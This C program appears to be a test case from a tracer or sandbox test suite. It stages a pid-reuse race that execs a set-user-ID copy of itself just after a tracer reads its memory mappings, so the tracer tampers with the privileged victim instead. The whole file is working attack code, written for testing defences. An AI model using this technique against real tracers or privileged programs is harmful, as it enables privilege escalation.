/* Executes a set-user-ID copy of itself at the moment in which somebody has looked at this process and has not stopped it yet.
 *
 *   setuid_exec (leader|thread) VICTIM DELAY_US
 *
 * A second process keeps the old address space in use. In it, writable memory lies wherever the stack of the victim may come
 * to lie, and counts as the initial stack. So a tracer that goes by the process id finds in the old address space all that it
 * needs, and does to the victim what it planned for this program: both are one file's copies, and lie at the same addresses.
 * Executed with privileges, the program is the victim: it waits, checks its text, and exits with 7. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <time.h>
#include <ucontext.h>
#include "../situation.h"

static char *victim;
static int watch, by_thread;
static long delay_us;
static pid_t parent;

enum { LEN = 1 << 20 };

/* A stack where no other mapping comes to lie. */
static char *low(long at)
{
    char *stack = mmap((void *)at, LEN, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    if (stack == MAP_FAILED)
        _exit(BROKEN);
    return stack;
}

static int keeps_the_memory(void *unused)
{
    struct timespec tenth = { 0, 100 * 1000 * 1000 };
    (void)unused;
    while (syscall(SYS_getppid) == parent)
        syscall(SYS_nanosleep, &tenth, NULL);
    syscall(SYS_exit, 0);
    return 0;
}

static void *executes(void *unused)
{
    char event[4096];
    char *args[] = { victim, NULL }, *environment[] = { NULL };
    struct timespec now, until;
    (void)unused;
    /* Somebody opens the file whose text this process maps: it has read the mappings. */
    if (read(watch, event, sizeof event) < 0)
        _exit(BROKEN);
    syscall(SYS_clock_gettime, CLOCK_MONOTONIC, &until);
    until.tv_sec += (until.tv_nsec + delay_us * 1000) / 1000000000;
    until.tv_nsec = (until.tv_nsec + delay_us * 1000) % 1000000000;
    do
        syscall(SYS_clock_gettime, CLOCK_MONOTONIC, &now);
    while (now.tv_sec < until.tv_sec || (now.tv_sec == until.tv_sec && now.tv_nsec < until.tv_nsec));
    execve(victim, args, environment);
    _exit(BROKEN);
}

static void attack(void)
{
    /* The last 64 GiB below the end of user space, where stacks begin; other than [stack] nothing of a static program is there. */
    char *high = (char *)0x7ff000000000, *end = (char *)0x7ffffffff000;
    pthread_t thread;
    pthread_attr_t attributes;
    char *stack = low(0x200000000000), *thread_stack = low(0x300000000000);
    if (mmap(high, end - high, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE | MAP_FIXED, -1, 0) != high)
        _exit(BROKEN);
    if (clone(keeps_the_memory, stack + LEN, CLONE_VM, NULL) < 0)
        _exit(BROKEN);
    pthread_attr_init(&attributes);
    pthread_attr_setstack(&attributes, thread_stack, LEN);
    if (by_thread && pthread_create(&thread, &attributes, executes, NULL))
        _exit(BROKEN);
    write(1, "ready\n", 6);
    if (by_thread)
        pthread_join(thread, NULL);
    else
        executes(NULL);
}

int main(int argc, char **argv)
{
    static ucontext_t main_context, attack_context;
    if (geteuid() != getuid()) {
        char c;
        puts("victim");
        fflush(stdout);
        while (read(0, &c, 1) > 0)
            ;
        check_or_die();
        return 7;
    }
    if (argc != 4)
        return BROKEN;
    by_thread = !strcmp(argv[1], "thread");
    victim = strdup(argv[2]);
    delay_us = atol(argv[3]);
    parent = getpid();
    watch = inotify_init1(IN_CLOEXEC);
    if (watch < 0 || inotify_add_watch(watch, argv[0], IN_OPEN) < 0)
        return BROKEN;
    /* Leaves the initial stack before that is mapped over. */
    if (getcontext(&attack_context))
        return BROKEN;
    attack_context.uc_stack.ss_sp = low(0x100000000000);
    attack_context.uc_stack.ss_size = LEN;
    attack_context.uc_link = &main_context;
    makecontext(&attack_context, attack, 0);
    swapcontext(&main_context, &attack_context);
    return BROKEN;
}
